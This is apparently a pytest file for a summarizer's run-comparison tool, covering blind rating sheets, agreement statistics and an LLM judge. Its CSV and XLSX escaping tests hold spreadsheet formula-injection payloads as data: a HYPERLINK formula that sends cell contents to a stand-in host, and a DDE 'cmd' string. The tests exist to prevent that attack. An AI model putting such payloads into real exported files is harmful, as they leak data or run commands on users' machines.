"""``compare`` and ``judge`` on two real batch runs of the same articles (the built-in summarizer against the
loopback stand-in model): a blind sheet in CSV and XLSX, read back after hand edits (rows reordered, a column
added, blanks, Excel's semicolon dialect in GB18030, an .xlsx), win rates with Wilson intervals, Cohen's kappa
on hand-made examples, runs that differ in their documents, and a judge asked in both orders."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from conftest import llm_settings
from llm_server import LLMServer

from summarizer.cli.main import main
from summarizer.compare.ratings import TIE, A, B, Tally, cohen_kappa, read_ratings, wilson
from summarizer.config.settings import Settings
from summarizer.run.batch import run_batch

CITIES = ["Hangzhou", "Lyon", "Porto", "Tartu", "Leeds", "Graz"]


def _articles(path: Path, n: int = 6, skip: tuple[int, ...] = ()) -> Path:
    with path.open("w", encoding="utf-8") as f:
        for i in range(n):
            if i in skip:
                continue
            city = CITIES[i % len(CITIES)]
            text = (f"The council of {city} approved a budget of {i + 3} million euros for district {i} on Monday. "
                    f"The mayor said the money will repair roads and schools before winter. Critics said the plan "
                    f"ignores buses. A vote on transit is expected in May. " * (1 + 4 * (i % 2)))
            f.write(json.dumps({"id": f"a{i}", "title": f"{city} budget", "text": text}) + "\n")
    return path


@pytest.fixture(scope="module")
def runs(tmp_path_factory):
    folder = tmp_path_factory.mktemp("compare")
    source = _articles(folder / "articles.jsonl")
    run_batch(source, folder / "offline", Settings(backend="extractive"), history=False)
    with LLMServer() as server:
        run_batch(source, folder / "model", llm_settings(server, use_cache=False), history=False)
    return folder


def _sheet(runs: Path, tmp_path: Path, capsys, *extra: str) -> Path:
    base = tmp_path / "sheet"
    assert main(["compare", str(runs / "offline"), str(runs / "model"), "-o", str(base), "--seed", "7", *extra]) == 0
    capsys.readouterr()
    return base


def test_the_sheet_is_blind_and_holds_both_summaries_flags_costs_and_times(runs, tmp_path, capsys):
    base = tmp_path / "sheet"
    assert main(["compare", str(runs / "offline"), str(runs / "model"), "-o", str(base), "--seed", "7"]) == 0
    printed = capsys.readouterr().out
    assert "| length | documents |" in printed and "test-model" in printed  # the table names the runs, the sheet not
    raw = (tmp_path / "sheet.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # a BOM: Excel reads UTF-8
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    assert len(rows) == 6 and {r["id"] for r in rows} == {f"a{i}" for i in range(6)}
    assert "test-model" not in raw.decode("utf-8-sig") and "offline" not in raw.decode("utf-8-sig")
    assert all(r["summary 1"] and r["summary 2"] and r["summary 1"] != r["summary 2"] for r in rows)
    assert all(r["choice"] == "" and r["comment"] == "" for r in rows)
    key = json.loads((tmp_path / "sheet.key.json").read_text())
    assert set(key["order"].values()) == {"ab", "ba"}  # the order is random per row (seed 7 gives both)
    model_first = [r for r in rows if key["order"][r["id"]] == "ba"][0]
    assert model_first["cost 1 (USD)"] == "" or float(model_first["cost 1 (USD)"]) >= 0
    from openpyxl import load_workbook

    book = load_workbook(tmp_path / "sheet.xlsx")
    assert [c.value for c in book["ratings"][1]][:6] == ["id", "title", "genre", "length", "summary 1", "summary 2"]
    assert book["ratings"].max_row == 7


def _fill(rows: list[dict], key: dict, prefer: str) -> list[dict]:
    """Ratings that prefer run ``prefer`` (a or b) on every row, written as the column it sits in."""
    for r in rows:
        r["choice"] = "1" if (key["order"][r["id"]] == "ab") == (prefer == A) else "2"
    return rows


def test_a_sheet_edited_by_hand_in_excel_reads_back(runs, tmp_path, capsys):
    base = _sheet(runs, tmp_path, capsys)
    key = json.loads((tmp_path / "sheet.key.json").read_text())
    rows = _fill(list(csv.DictReader(io.StringIO((tmp_path / "sheet.csv").read_text("utf-8-sig")))), key, B)
    rows[0]["choice"], rows[1]["choice"], rows[2]["choice"] = "", " Tie ", "maybe"  # blank, tie, not a rating
    rows.reverse()  # rows reordered
    edited = tmp_path / "sheet filled.csv"
    text = io.StringIO()
    writer = csv.DictWriter(text, ["rater", *rows[0].keys()], delimiter=";")  # a column added, Excel's ; dialect
    writer.writeheader()
    writer.writerows({"rater": "Li", **r} for r in rows)
    edited.write_bytes(text.getvalue().encode("gb18030"))
    ratings, _, notes = read_ratings(edited, base.with_name("sheet.key.json"))
    assert len(ratings) == 4 and sum(r.winner == TIE for r in ratings) == 1 and sum(r.winner == B for r in ratings) == 3
    assert any("maybe" in n for n in notes)
    assert main(["compare", "--ratings", str(edited), "--key", str(tmp_path / "sheet.key.json"), "--json"]) == 0
    report = json.loads(capsys.readouterr().out)
    assert report["overall"]["b"] == 3 and report["overall"]["tie"] == 1 and report["overall"]["a"] == 0
    assert report["overall"]["a_win_rate"]["share"] == 0 and report["by_length"] and report["by_genre"]["article"]

    from openpyxl import load_workbook  # the .xlsx filled in Excel: every row prefers run a

    book = load_workbook(tmp_path / "sheet.xlsx")
    sheet = book["ratings"]
    for row in sheet.iter_rows(min_row=2):
        row[12].value = 1 if key["order"][row[0].value] == "ab" else 2  # a number, as Excel stores it
    book.save(tmp_path / "sheet.xlsx")
    ratings, _, _ = read_ratings(tmp_path / "sheet.xlsx")
    assert len(ratings) == 6 and all(r.winner == A for r in ratings)


def test_win_rate_interval_and_kappa_on_hand_made_examples():
    share, low, high = wilson(8, 10)  # Wilson 95 %: 0.8 in (0.490, 0.943)
    assert share == 0.8 and round(low, 3) == 0.490 and round(high, 3) == 0.943
    t = Tally(a=8, b=2, tie=3)
    assert t.win_rate(A)[0] == 0.8 and t.win_rate(B)[0] == 0.2 and t.n == 13
    # two raters over 10 documents, 7 agreements; marginals a 5/6, b 3/3, tie 2/1: pe = (30 + 9 + 2) / 100
    one = dict(zip("0123456789", [A, A, A, A, A, B, B, B, TIE, TIE], strict=True))
    two = dict(zip("0123456789", [A, A, A, A, B, B, B, A, TIE, A], strict=True))
    kappa, n = cohen_kappa(one, two)
    assert n == 10 and round(kappa, 4) == round((0.7 - 0.41) / (1 - 0.41), 4) == 0.4915
    assert cohen_kappa(one, {k: v for k, v in one.items()})[0] == 1.0


def test_runs_that_differ_in_their_documents_are_refused_with_the_list_or_compared_on_the_common_ones(runs, tmp_path,
                                                                                                      capsys):
    fewer = _articles(tmp_path / "fewer.jsonl", skip=(2, 4))
    run_batch(fewer, tmp_path / "fewer", Settings(backend="extractive"), history=False)
    assert main(["compare", str(tmp_path / "fewer"), str(runs / "model"), "-o", str(tmp_path / "s")]) == 2
    message = capsys.readouterr().err
    assert "2 (a2, a4) only in model" in message and "--common-only" in message and "Traceback" not in message
    assert main(["compare", str(tmp_path / "fewer"), str(runs / "model"), "-o", str(tmp_path / "s"), "--common-only"]) == 0
    assert len(list(csv.DictReader(io.StringIO((tmp_path / "s.csv").read_text("utf-8-sig"))))) == 4
    assert main(["compare", str(tmp_path), str(runs / "model")]) == 2
    assert "not a batch output folder" in capsys.readouterr().err


def test_a_judge_is_asked_both_orders_and_a_position_biased_one_calls_everything_a_tie(runs, tmp_path, capsys,
                                                                                         monkeypatch):
    base = _sheet(runs, tmp_path, capsys)
    key = json.loads((tmp_path / "sheet.key.json").read_text())
    rows = list(csv.DictReader(io.StringIO((tmp_path / "sheet.csv").read_text("utf-8-sig"))))
    longer_side = {r["id"]: (A if (len(r["summary 1"]) >= len(r["summary 2"])) == (key["order"][r["id"]] == "ab") else B)
                   for r in rows}
    for r in rows:  # people agree with a judge that prefers the longer summary
        r["choice"] = "1" if (longer_side[r["id"]] == A) == (key["order"][r["id"]] == "ab") else "2"
    with (tmp_path / "sheet.csv").open("w", encoding="utf-8-sig", newline="") as f:
        writer = csv.DictWriter(f, rows[0].keys())
        writer.writeheader()
        writer.writerows(rows)
    monkeypatch.setenv("SUMMARIZER_API_KEY", "sk-test-0000")
    with LLMServer() as server:
        args = ["judge", str(runs / "offline"), str(runs / "model"), "--model", "judge-model", "--base-url",
                server.base_url, "-o", str(tmp_path / "verdicts.jsonl"), "--ratings", str(base.with_suffix(".csv"))]
        assert main(args) == 2  # the price is unknown: refused without --yes, before any request
        assert "Add --yes" in capsys.readouterr().err and not server.state.chat_requests
        assert main([*args, "--yes"]) == 0
        printed = capsys.readouterr().out
        asked = [r.body["messages"][-1]["content"] for r in server.state.chat_requests]
        assert len(asked) == 12 and all('<summary id="1">' in a and "<document>" in a for a in asked)
        verdicts = [json.loads(line) for line in (tmp_path / "verdicts.jsonl").read_text().splitlines()]
        assert {v["id"]: v["winner"] for v in verdicts} == longer_side  # both orders agree: the longer one wins
        assert all(len(v["picks"]) == 2 and v["reasons"][0] for v in verdicts)
        assert "Cohen's kappa 1.00 over 6 documents" in printed
    with LLMServer(judge_first=True) as biased:
        args[args.index("--base-url") + 1] = biased.base_url
        assert main([*args, "--yes"]) == 0
        verdicts = [json.loads(line) for line in (tmp_path / "verdicts.jsonl").read_text().splitlines()]
        assert all(v["winner"] == TIE and v["picks"] == [A, B] for v in verdicts)


def test_document_text_that_excel_would_run_is_written_as_text():
    from summarizer.compare.sheet import csv_cell

    assert csv_cell('=HYPERLINK("http://x.test/?"&A1)').startswith("'=")
    assert csv_cell("+1+cmd|' /C calc'!A0").startswith("'") and csv_cell("@SUM(1)").startswith("'")
    assert csv_cell("-2+3").startswith("'") and csv_cell("- a Markdown bullet") == "- a Markdown bullet"


def test_quotes_and_apostrophes_in_summaries_and_dotted_run_names_read_back(runs, tmp_path, capsys):
    """A CSV whose summaries hold 'single' and "double" quotes (the sniffer once took ' for the quote
    character) reads back whole; a run named gpt-4.1 keeps its dot in the sheet's name; a second sheet over a
    key already handed out is refused."""
    import shutil

    for name in ("run-gpt-4.1", "run-gpt-4o"):
        shutil.copytree(runs / ("offline" if name.endswith("4.1") else "model"), tmp_path / name)
    assert main(["compare", str(tmp_path / "run-gpt-4.1"), str(tmp_path / "run-gpt-4o"), "-o",
                 str(tmp_path / "cmp-gpt-4.1-vs-gpt-4o"), "--seed", "3"]) == 0
    sheet = tmp_path / "cmp-gpt-4.1-vs-gpt-4o.csv"
    assert sheet.is_file() and (tmp_path / "cmp-gpt-4.1-vs-gpt-4o.key.json").is_file()
    assert main(["compare", str(tmp_path / "run-gpt-4.1"), str(tmp_path / "run-gpt-4o"), "-o",
                 str(tmp_path / "cmp-gpt-4.1-vs-gpt-4o")]) == 2
    assert "--force" in capsys.readouterr().err
    key = json.loads((tmp_path / "cmp-gpt-4.1-vs-gpt-4o.key.json").read_text())
    rows = list(csv.DictReader(io.StringIO(sheet.read_text("utf-8-sig"))))
    for n, r in enumerate(rows):
        r["summary 1"] = "The mayor's aide said 'we're fine' and 'roads first'. " + r["summary 1"]
        if n > 2:
            r["summary 2"] = 'Critics called it "a plan for cars", the "worst" in years. ' + r["summary 2"]
        r["choice"] = "1" if key["order"][r["id"]] == "ab" else "2"  # run a every time
    with sheet.open("w", encoding="utf-8-sig", newline="") as f:
        writer = csv.DictWriter(f, rows[0].keys())
        writer.writeheader()
        writer.writerows(rows)
    ratings, _, notes = read_ratings(sheet)
    assert len(ratings) == 6 and all(r.winner == A for r in ratings) and not notes, notes


def test_a_batch_zip_with_broken_entries_reads_the_sound_ones(runs, tmp_path):
    import zipfile

    from summarizer.compare.runs import read_run

    with zipfile.ZipFile(tmp_path / "run.zip", "w") as z:  # a zipped output folder: everything under "run/"
        lines = (runs / "model" / "index.jsonl").read_text().splitlines()
        for line in lines:
            record = json.loads(line)
            z.writestr(f"run/{record['json']}", (runs / "model" / record["json"]).read_text())
        z.writestr("run/index.jsonl", "\n".join([*lines, json.dumps({"status": "done", "json": "x.json"}),
                                                 json.dumps({"id": "bad", "status": "done", "json": "a0.summary.md"})]))
        z.writestr("run/a0.summary.md", "[1, 2]")
    run = read_run(tmp_path / "run.zip")
    assert sorted(run.documents) == [f"a{i}" for i in range(6)]


def test_a_sheet_whose_summaries_are_full_of_apostrophes_reads_back():
    """Summaries with ' in every cell made the CSV sniffer take ' for the quote character and shift every
    column ('1.00' is not 1, 2 or tie); the delimiter now comes from the header line and quoting is Excel's."""
    from summarizer.compare.ratings import parse_key, ratings_from
    from summarizer.compare.runs import BatchRun, RunDocument
    from summarizer.compare.sheet import sheet_bytes

    said = "The company's CEO said 'we're fine' and the board's 'plan' is 'on track', it's said."

    def doc(i: int, summary: str) -> RunDocument:
        return RunDocument(f"d{i}", "h", "done", f"T{i}", summary, "m", "article", 1000, 1.0, 0.001, 0, 0)

    pairs = [(doc(i, f"{said} A{i}"), doc(i, f"Other: {said} B{i}")) for i in range(4)]
    made = sheet_bytes(pairs, BatchRun(Path("ra"), {a.id: a for a, _ in pairs}),
                       BatchRun(Path("rb"), {b.id: b for _, b in pairs}), seed=1)
    lines = made.csv.decode("utf-8-sig").splitlines()
    filled = "\n".join([lines[0], *(line[:-2] + ",1," for line in lines[1:])]).encode()  # "1" in every choice cell
    ratings, key, notes = ratings_from("s.csv", filled, parse_key("k", made.key))
    assert len(ratings) == 4 and not notes, notes


def test_a_key_from_another_sheet_is_refused_in_one_line(runs, tmp_path, capsys):
    base = _sheet(runs, tmp_path, capsys)
    other = json.loads(base.with_name("sheet.key.json").read_text())
    other["order"] = {"x1": "ab", "x2": "ba"}
    (tmp_path / "other.key.json").write_text(json.dumps(other))
    assert main(["compare", "--ratings", str(base.with_name("sheet.csv")), "--key", str(tmp_path / "other.key.json")]) == 2
    assert "the key belongs to another sheet" in capsys.readouterr().err


def test_document_text_starting_with_a_formula_is_text_in_the_xlsx():
    from openpyxl import load_workbook

    from summarizer.compare.runs import BatchRun, RunDocument
    from summarizer.compare.sheet import sheet_bytes

    def doc(i: int, summary: str) -> RunDocument:
        return RunDocument(f"d{i}", "h", "done", '=HYPERLINK("http://x.test","open")', summary, "m", "article", 900,
                           1.0, None, 0, 0)

    pairs = [(doc(0, "=1+1"), doc(0, "- a bullet"))]
    made = sheet_bytes(pairs, BatchRun(Path("ra"), {"d0": pairs[0][0]}), BatchRun(Path("rb"), {"d0": pairs[0][1]}), seed=2)
    sheet = load_workbook(io.BytesIO(made.xlsx))["ratings"]
    cells = [c for c in sheet[2] if isinstance(c.value, str) and c.value.startswith("=")]
    assert len(cells) == 2 and all(c.data_type == "s" for c in cells)  # title and summary: text, not formulas


def test_the_judges_estimate_leaves_out_a_pair_without_document_text(runs, monkeypatch):
    from summarizer.compare.judge import Judge
    from summarizer.compare.runs import paired, read_run

    monkeypatch.setenv("SUMMARIZER_API_KEY", "sk-test-0000")
    pairs = paired(read_run(runs / "offline"), read_run(runs / "model"))
    for x, y in pairs[:2]:
        x.source = y.source = None
        x.__dict__.pop("text", None), y.__dict__.pop("text", None)
    judge = Judge(Settings(backend="llm", model="gpt-4o-mini", base_url="http://127.0.0.1:9/v1"))
    estimate = judge.estimate(pairs)
    assert estimate.requests == 2 * (len(pairs) - 2) and estimate.tokens_in > 0 and estimate.cost_usd
    verdict = judge.verdict(*pairs[0])
    assert verdict.winner == "" and "no document text" in verdict.error


def test_a_document_cut_to_fit_is_marked_as_cut_for_the_judge(runs, monkeypatch):
    from summarizer.compare.judge import CUT_NOTE, Judge
    from summarizer.compare.runs import paired, read_run

    monkeypatch.setenv("SUMMARIZER_API_KEY", "sk-test-0000")
    a, b = paired(read_run(runs / "offline"), read_run(runs / "model"))[1]
    judge = Judge(Settings(backend="llm", model="gpt-4o-mini", base_url="http://127.0.0.1:9/v1"))
    assert CUT_NOTE not in judge.call(a, b).messages[-1]["content"]  # whole: no mark
    judge.document_tokens, judge._documents = 20, {}
    assert CUT_NOTE in judge.call(a, b).messages[-1]["content"]
